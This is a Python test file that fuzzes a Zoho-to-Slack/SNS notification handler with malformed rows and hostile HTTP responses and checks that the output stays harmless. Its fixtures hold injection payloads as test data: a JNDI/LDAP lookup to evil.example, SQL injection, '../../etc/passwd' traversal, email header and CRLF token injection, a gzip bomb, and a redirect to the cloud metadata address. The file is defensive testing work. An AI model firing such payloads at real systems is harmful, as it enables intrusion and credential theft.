"""Whatever Zoho and Slack answer, the whole way: through HTTP, the rules, a real table and out to both channels."""

import gzip
import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from handler.history import parse_row
from handler.rules import classify
from sandbox.server import Fault, Response
from tests.simulation.setting import a_world
from tests.simulation.timelines import Row, appear, assert_kept, recover
from tests.simulation.world import World

NASTY = (
    "<!channel> <!here> <@U12345678> <https://evil.example|click> @here",
    "*bold* _italic_ `code` ```block``` > quote",
    "&lt;!everyone&gt; &amp; &",
    "\u202egnp.exe\u202c\u2066\u200f\u200b\ufeff",
    "\ud800\udfff\udc00",
    "\x00\x07\x1b[31m",
    "Bcc: all@example.com\r\nSubject: owned\r\n\r\n",
    "line\u2028paragraph\u2029next\x85feed\x0b\x0c",
    "x" * 10_000,
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿" * 200,
    "%s %(asctime)s {0} {org} ${jndi:ldap://evil.example}",
    "'; DROP TABLE memory; --",
    "../../etc/passwd",
)
TIMES = ("0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00", "2026-02-30T00:00:00Z", "2026-03-02", "1e9")
JSON: st.SearchStrategy[Any] = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.sampled_from(NASTY) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(NASTY) | st.text(max_size=5), inner),
    max_leaves=6,
)
TEXTS = st.sampled_from(NASTY)
ROWS = st.fixed_dictionaries(
    {},
    optional={
        "id": TEXTS | JSON,
        "log_time": st.sampled_from(TIMES) | JSON,
        "state": st.sampled_from(("completed", "FAILURE")) | TEXTS | JSON,
        "action": st.sampled_from(("stopped", "Initiated")) | TEXTS | JSON,
        "repeat_type": TEXTS | JSON,
        "done_by": st.fixed_dictionaries({"name": TEXTS | JSON}) | JSON,
        "file_name": TEXTS | JSON,
        "count": JSON,
        "unknown": JSON,
    },
)
OUR_LINK = re.compile(r"<!date\^\d+\^[^<>|]*\|[^<>|]*>|<https://crm\.zoho\.com\|Open Zoho CRM>")


def row_of(text: str) -> dict[str, Any]:
    """Return a row that holds this text wherever a person's or Zoho's words can stand."""
    return {"state": text, "id": text, "repeat_type": text, "file_name": text, "done_by": {"name": text}}


CALM = list(HealthCheck)


@pytest.fixture(scope="module")
def simulated() -> Iterator[World]:
    """Give a world whose table and topic are moto's."""
    with a_world() as made:
        yield made


def watched(world: World) -> None:
    """Begin a timeline whose baseline was told, and which is judged by what is told here and not by its rows."""
    world.begin()
    world.check()
    world.witness.rows_are_plain = False
    world.arrivals.posts.clear()
    world.arrivals.mails.clear()


def told_rows(world: World) -> list[str]:
    """Return the id of each notice about a row, in order."""
    return [notice.notice_id for notice in world.witness.promised.values() if notice.row and not notice.incident]


def assert_harmless(world: World) -> None:
    """What both channels accepted mentions nobody, links nowhere but where we link, and fits."""
    for post in world.arrivals.posts:
        for text in mrkdwn_of(post):
            for link in re.findall(r"<[^>]*>?", text):
                assert re.fullmatch(r"<!date\^\d+\^[^<>|]*\|[^<>|]*>|<https://crm\.zoho\.com\|Open Zoho CRM>", link), (
                    text
                )
        assert not re.search("[<>]", post["text"])
        assert len(json.dumps(post)) < 200_000
    for mail in world.arrivals.mails:
        assert re.fullmatch(r"[ -~]{1,100}", mail.subject)
        assert len(mail.text.encode()) < 100_000
        assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f\u2028\u2029\u202e\ud800-\udfff]", mail.text)
        assert "evil" not in mail.subject + mail.text.partition("\n")[0]


def mrkdwn_of(part: Any) -> Iterator[str]:
    """Yield every text that Slack would interpret."""
    if isinstance(part, dict):
        if part.get("type") == "mrkdwn":
            yield part["text"]
        part = list(part.values())
    for inner in part if isinstance(part, list) else ():
        yield from mrkdwn_of(inner)


@settings(max_examples=40, suppress_health_check=CALM)
@given(rows=st.lists(ROWS, min_size=1, max_size=3))
@example(rows=[row_of(text) for text in NASTY[:7]])
@example(rows=[row_of(text) for text in NASTY[7:]])
@example(rows=[row_of(text) for text in NASTY])  # more than ten: a list
def test_whatever_the_fields_of_a_row_hold_it_is_told_once_and_harmless(
    simulated: World, rows: list[dict[str, Any]]
) -> None:
    """Any JSON in any field: both channels take the message at once, and every row that is worth one is told."""
    watched(simulated)
    simulated.organisation.rows = rows
    answer = simulated.check()
    assert_kept(simulated)
    assert answer, simulated.log.lines
    parsed = [parse_row(json.loads(json.dumps(row))) for row in rows]
    worth = {row.key for row in parsed if classify(row) != "started"}
    assert sorted(told_rows(simulated)) == sorted(f"default-{key}" for key in worth)
    assert answer["delivered"] == ({"sns": len(worth), "slack": len(worth)} if worth else {})
    assert_harmless(simulated)
    simulated.cold()
    again = simulated.check()
    assert again
    assert again["notices"] == []


def test_a_hundred_news_of_the_longest_texts_fit_into_the_item_and_into_few_messages(simulated: World) -> None:
    """Counted in characters by Slack, in bytes by SNS and DynamoDB: four of them for each of these characters."""
    watched(simulated)
    text = "🏴" * 100
    simulated.organisation.rows = [{**row_of(text), "id": f"{number:03}{text}"} for number in range(100)]
    simulated.slack.standing["webhook"] = Fault(Response(500))
    assert simulated.check() is None
    simulated.slack.standing.clear()
    simulated.now = simulated.last.deadline
    assert simulated.check()
    assert len(simulated.arrivals.mails) <= 2
    assert len(simulated.arrivals.posts) <= 3
    assert_harmless(simulated)
    assert_kept(simulated)


def bomb(size: int) -> Response:
    """Return an answer that expands to so many bytes of JSON."""
    return Response(200, gzip.compress(b'{"history": "' + b"0" * size + b'"}'), {"Content-Encoding": "gzip"})


def said(body: bytes | str, **headers: str) -> Response:
    """Return a good-looking answer with this body."""
    return Response(
        200, body if isinstance(body, bytes) else body.encode(), {"Content-Type": "application/json", **headers}
    )


BODIES = {
    "deep list": said("[" * 200_000),
    "deep object": said('{"history":' * 100_000),
    "ten megabytes": said(b'{"history": ["' + b"x" * 10_000_000 + b'"]}'),
    "bomb": bomb(50_000_000),
    "half a gzip": Response(200, gzip.compress(b"{}" * 1000)[:20], {"Content-Encoding": "gzip"}),
    "not gzip": said("{}", **{"Content-Encoding": "gzip"}),
    "unknown encoding": said("{}", **{"Content-Encoding": "zip"}),
    "huge number": said('{"history": [{"id": ' + "9" * 5_000 + '}], "info": {"more_records": false}}'),
    "lone surrogates": said('{"error": "\\ud800", "code": "\\udfff", "message": "\\ud800"}'),
    "UTF-16": said('{"history": []}'.encode("utf-16")),
    "not UTF-8": said(b'{"error": "\xff\xfe"}'),
    "NUL": said("\x00" * 1_000),
    "twice": said('{"history": [], "info": {"more_records": false}} {}'),
    "endless pages": said('{"history": [], "info": {"more_records": true}}'),
    "token with line breaks": said('{"access_token": "a\\r\\nX-Evil: 1", "expires_in": 3600}'),
    "long token": said(json.dumps({"access_token": "a" * 100_000})),
    "nasty error": said(json.dumps({"error": NASTY[0] * 100, "status": "error", "code": NASTY[0] * 100})),
    "nasty status": Response(418, json.dumps({"code": NASTY[0]}).encode()),
    "nasty header": said("{}", Location="http://169.254.169.254/latest/meta-data"),
}


TOO_LONG = {"ten megabytes", "bomb"}
"""Not read to their end, so nobody says that they are not as documented."""


@pytest.mark.parametrize("body", BODIES)
@pytest.mark.parametrize("kind", ["token", "history", "urls"])
def test_whatever_zoho_answers_nothing_is_raised_but_our_own_errors_and_all_recovers(
    simulated: World, kind: str, body: str
) -> None:
    """A check meets such an answer, warm and cold, with news of which it may not know; then all is well again."""
    watched(simulated)
    simulated.witness.rows_are_plain = True
    appear(simulated, Row("completed"))
    simulated.zoho.standing[kind] = Fault(BODIES[body])
    for _ in range(2):
        simulated.cold()
        simulated.now = simulated.last.deadline
        simulated.check()
        assert_kept(simulated)
    assert_harmless(simulated)
    if body in TOO_LONG and kind != "urls":
        assert simulated.witness.memory
        assert simulated.witness.memory.incidents["unreadable"].facts["cause"] == "trouble"
    simulated.zoho.standing.clear()
    recover(simulated)
    assert len(told_rows(simulated)) == 1


@pytest.mark.parametrize("body", BODIES)
@pytest.mark.parametrize("status", [200, 404])
def test_whatever_slack_answers_nothing_is_raised_but_our_own_errors_and_all_recovers(
    simulated: World, status: int, body: str
) -> None:
    """The message waits, and SNS has it all the same."""
    watched(simulated)
    simulated.witness.rows_are_plain = True
    appear(simulated, Row("failed"))
    answer = BODIES[body]
    simulated.slack.standing["webhook"] = Fault(Response(status, answer.body, answer.headers))
    assert simulated.check() is None
    assert len(simulated.arrivals.mails) == 1
    simulated.slack.standing.clear()
    recover(simulated)


@settings(max_examples=30, suppress_health_check=CALM)
@given(
    answer=JSON, kind=st.sampled_from(("token", "history", "urls")), status=st.sampled_from((200, 200, 400, 401, 500))
)
def test_any_json_for_an_answer_is_survived(simulated: World, answer: Any, kind: str, status: int) -> None:
    """Of whatever shape, with whatever status."""
    watched(simulated)
    simulated.witness.rows_are_plain = True
    appear(simulated, Row("completed"))
    simulated.zoho.standing[kind] = Fault(Response.json(answer, status))
    simulated.cold()
    simulated.check()
    simulated.zoho.standing.clear()
    recover(simulated)
    assert_harmless(simulated)
